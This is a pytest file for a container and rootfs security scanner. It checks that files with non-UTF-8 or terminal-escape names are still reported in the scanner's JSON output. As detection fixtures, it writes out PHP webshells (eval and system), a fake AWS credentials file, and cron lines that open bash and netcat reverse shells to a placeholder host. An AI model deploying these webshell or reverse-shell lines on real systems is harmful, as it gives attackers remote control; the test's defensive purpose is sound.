"""File names that are not UTF-8 (a lone 0xE9 byte) or that carry terminal escape codes
hide nothing: a webshell, an AWS key file and a reverse-shell cron job under such
names are reported through the CLI with ``-f json``, byte for byte, from a real image
(docker-daemon, docker-archive, a container's overlay dirs) and from a rootfs dir, and
the gate trips. Paths travel as ``str`` with surrogateescape and the JSON writes each
stray byte as ``\\udcXX`` (docs/reports.md)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from seawall.report.json_text import dumps_json, original_bytes

if TYPE_CHECKING:
    from conftest import Lab

REPO = Path(__file__).resolve().parent.parent
FIXTURE = REPO / "tests" / "fixtures" / "hostile-names"
IMAGE = "seawall-test/hostile-names:latest"
SEAWALL = [sys.executable, "-c", "from seawall.cli import main; main()"]
PLUGIN = ("--plugin-dir", str(REPO / "examples" / "plugins"), "--plugin", "uid0-accounts")
TAGS = (b"\xe9", b"\x1b[31m\r")
"""The name suffixes of tests/fixtures/hostile-names/Dockerfile."""

WEBSHELL = b'<?php @eval($_POST["cmd"]); ?>\n'
AWS_KEYS = (b"[default]\naws_access_key_id = AKIAQ3EGRKWX7TZPN5LM\n"
            b"aws_secret_access_key = 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\n")
CRON = b'* * * * * root bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n'


def planted(tag: bytes) -> dict[bytes, set[str]]:
    """Path bytes -> finding categories expected there, for one name suffix."""
    return {
        b"/var/www/html/shell" + tag + b".php": {"malware"},
        b"/home/dev" + tag + b"/.aws/credentials" + tag: {"secret"},
        b"/etc/cron.d/sync" + tag: {"backdoor", "malware"},
    }


def _seawall(*args: str, cache: Path) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "SEAWALL_CACHE_DIR": str(cache)}
    return subprocess.run([*SEAWALL, *args], capture_output=True, env=env, timeout=600,
                          check=False)


def _scan_json(
    *args: str, cache: Path, scanners: str = "secret,malware,backdoor", fail_on: str = "high"
) -> dict[str, Any]:
    """Run a scan with ``-f json --fail-on FAIL_ON``; the gate must trip (exit 1) and
    stdout must be strict JSON in valid UTF-8."""
    proc = _seawall(*args, "--scanners", scanners, "-f", "json", "--fail-on", fail_on,
                    cache=cache)
    stderr = proc.stderr.decode("utf-8", "backslashreplace")
    assert proc.returncode == 1, stderr
    assert "Traceback" not in stderr
    text = proc.stdout.decode("utf-8")  # strict: raw non-UTF-8 bytes would raise here
    assert "\\udce9" in text  # the documented representation of the 0xE9 byte
    doc: dict[str, Any] = json.loads(text)
    return doc


def _by_path(doc: dict[str, Any]) -> dict[bytes, set[str]]:
    out: dict[bytes, set[str]] = {}
    for f in doc["findings"]:
        path = f["location"].get("path")
        if path:
            out.setdefault(original_bytes(path), set()).add(f["category"])
    return out


def _assert_all_reported(doc: dict[str, Any]) -> None:
    assert doc["errors"] == []
    got = _by_path(doc)
    for tag in TAGS:
        for path, categories in planted(tag).items():
            assert categories <= got.get(path, set()), (path, got.get(path))


def _assert_plugin_reports(doc: dict[str, Any]) -> None:
    """The plugin fs service carries the names too: the example plugin walks /etc over
    JSON-RPC and reports the world-writable files by the paths it got."""
    assert doc["errors"] == []
    world = {original_bytes(f["location"]["path"]) for f in doc["findings"]
             if f["rule_id"] == "SWX-PY-002"}
    assert world == {b"/etc/world" + tag for tag in TAGS}


def _make_rootfs(root: Path) -> Path:
    for tag in TAGS:
        for path, content in ((b"/var/www/html/shell" + tag + b".php", WEBSHELL),
                              (b"/home/dev" + tag + b"/.aws/credentials" + tag, AWS_KEYS),
                              (b"/etc/cron.d/sync" + tag, CRON),
                              (b"/etc/world" + tag, b"x\n")):
            host = os.fsencode(root) + path
            os.makedirs(os.path.dirname(host), exist_ok=True)
            with open(host, "wb") as fh:
                fh.write(content)
        os.chmod(os.fsencode(root) + b"/etc/world" + tag, 0o666)
    return root


@pytest.fixture(scope="module")
def hostile_image(lab: Lab) -> str:
    """The fixture image, built for real from tests/fixtures/hostile-names."""
    subprocess.run(["docker", "build", "-q", "-t", IMAGE, str(FIXTURE)], check=True,
                   capture_output=True, timeout=600)
    return IMAGE


def test_json_text_escapes_every_stray_byte_and_round_trips() -> None:
    names = [os.fsdecode(b"/x" + bytes([b]) + b"\xc3\xa9") for b in range(0x80, 0x100)]
    text = dumps_json({"paths": names})
    text.encode("utf-8")  # no lone surrogate left raw
    assert "\\udce9" in text and "é" in text  # stray bytes escaped, valid UTF-8 kept
    back = json.loads(text)["paths"]
    assert [original_bytes(p) for p in back] == [b"/x" + bytes([b]) + b"\xc3\xa9"
                                                 for b in range(0x80, 0x100)]


def test_rootfs_with_hostile_names(tmp_path: Path) -> None:
    root = _make_rootfs(tmp_path / "root")
    _assert_all_reported(_scan_json("rootfs", str(root), cache=tmp_path / "cache"))
    _assert_plugin_reports(_scan_json("rootfs", str(root), *PLUGIN, scanners="none",
                                      fail_on="medium", cache=tmp_path / "cache"))


def test_saved_report_round_trips_through_convert_and_baseline(tmp_path: Path) -> None:
    root = _make_rootfs(tmp_path / "root")
    saved = tmp_path / "report.json"
    doc = _scan_json("rootfs", str(root), cache=tmp_path / "cache")
    saved.write_text(json.dumps(doc), encoding="utf-8")
    proc = _seawall("convert", str(saved), "-f", "json", cache=tmp_path / "cache")
    assert proc.returncode == 0, proc.stderr
    again = json.loads(proc.stdout.decode("utf-8"))
    assert _by_path(again) == _by_path(doc)
    assert [f["id"] for f in again["findings"]] == [f["id"] for f in doc["findings"]]
    # Same ids on a re-scan: nothing is new against the saved report.
    proc = _seawall("rootfs", str(root), "--scanners", "secret,malware,backdoor",
                    "--baseline", str(saved), "-f", "json", "--fail-on", "high",
                    cache=tmp_path / "cache")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["findings"] == []


@pytest.mark.lab
@pytest.mark.parametrize("transport", ["docker-daemon", "docker-archive"])
def test_image_with_hostile_names(hostile_image: str, transport: str, tmp_path: Path) -> None:
    ref = f"docker-daemon:{hostile_image}"
    if transport == "docker-archive":
        archive = tmp_path / "image.tar"
        subprocess.run(["docker", "save", "-o", str(archive), hostile_image], check=True,
                       timeout=300)
        ref = f"docker-archive:{archive}"
    first = _scan_json("image", ref, cache=tmp_path / "cache")
    _assert_all_reported(first)
    if transport == "docker-daemon":
        return  # the rest reads the same layer tars the same way
    _assert_plugin_reports(_scan_json("image", ref, *PLUGIN, scanners="none",
                                      fail_on="medium", cache=tmp_path / "cache"))
    # The second scan answers from the layer caches (index and per-file results).
    second = _scan_json("image", ref, cache=tmp_path / "cache")
    assert [f["id"] for f in second["findings"]] == [f["id"] for f in first["findings"]]


@pytest.mark.lab
def test_container_upper_dir_with_hostile_names(hostile_image: str, tmp_path: Path) -> None:
    """Files a container wrote (its overlay upper dir) under hostile names."""
    name = f"seawall-test-hostile-{uuid.uuid4().hex[:8]}"
    script = (
        "set -e; for tag in \"$(printf '\\351')\" \"$(printf '\\033[31m\\r')\"; do "
        "printf '<?php system($_GET[\"c\"]); ?>\\n' > \"/var/www/html/up$tag.php\"; "
        "printf '* * * * * root nc -e /bin/sh 203.0.113.7 4444\\n' > \"/etc/cron.d/up$tag\"; "
        "done"
    )
    subprocess.run(["docker", "run", "--name", name, hostile_image, "sh", "-c", script],
                   check=True, capture_output=True, timeout=120)
    try:
        doc = _scan_json("container", name, cache=tmp_path / "cache")
    finally:
        subprocess.run(["docker", "rm", "-f", name], capture_output=True, check=False)
    _assert_all_reported(doc)
    got = _by_path(doc)
    for tag in TAGS:
        assert "malware" in got.get(b"/var/www/html/up" + tag + b".php", set())
        assert {"backdoor", "malware"} <= got.get(b"/etc/cron.d/up" + tag, set())
